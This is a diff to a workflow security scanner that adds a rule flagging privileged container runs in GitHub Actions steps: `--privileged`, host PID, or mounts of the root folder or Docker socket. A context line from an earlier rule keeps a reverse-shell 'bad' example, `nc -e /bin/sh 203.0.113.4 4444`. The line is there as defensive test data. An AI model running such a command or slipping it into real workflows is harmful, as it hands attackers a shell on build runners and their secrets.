@@ -68,4 +68,30 @@ export default [
     bad: workflow('push', ...steps('- run: nc -e /bin/sh 203.0.113.4 4444', '       ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^')),
     good: workflow('push', ...steps('- run: make')),
   }),
+  objectRule({
+    id: 'workload/workflow-privileged-run',
+    title: 'Container that a step runs with rights on its machine',
+    severity: 'low',
+    confidence: 'medium',
+    types: ['github_step'],
+    file,
+    what: 'Reports `docker run` in steps with `--privileged`, with the socket of Docker, the root folder or the processes of the machine.',
+    why: 'What runs in the container, also the code of a dependency, then commands the runner and reads its secrets.',
+    references: ['CWE-250', 'AC-6', 'CM-6'],
+    noFix: 'What the container needs has to be known.',
+    whenNotToUse: 'For builds of images that cannot do without.',
+    check: (resource, tell, context) => {
+      for (const run of lookIn(mapOfResource(resource), 'run').values) {
+        const { path, range } = run.origin;
+        const text = context.sources.document(path)?.text.slice(range.start, range.end) ?? '';
+        for (const match of text.matchAll(/^(?![ \t]*#).*?\b(?:docker|podman)\s+(?:container\s+)?run\b(?:[^\n;|&]|\\\n)*?\s(--privileged\b|--pid[= ]host\b|(?:-v|--volume)[= ]?["']?(?:\/:|\/var\/run\/docker\.sock:)\S*)/gm)) {
+          const start = range.start + match.index + match[0].length - match[1]!.length;
+          const origin = { path, range: { start, end: start + match[1]!.length } };
+          tell({ kind: 'null', origin, at: origin }, `A container of "${resource.name}" has rights on its machine.`);
+        }
+      }
+    },
+    bad: workflow('push', ...steps('- run: docker run --privileged acme/build', '                  ^^^^^^^^^^^^')),
+    good: workflow('push', ...steps('- run: docker run --read-only acme/build')),
+  }),
 ];
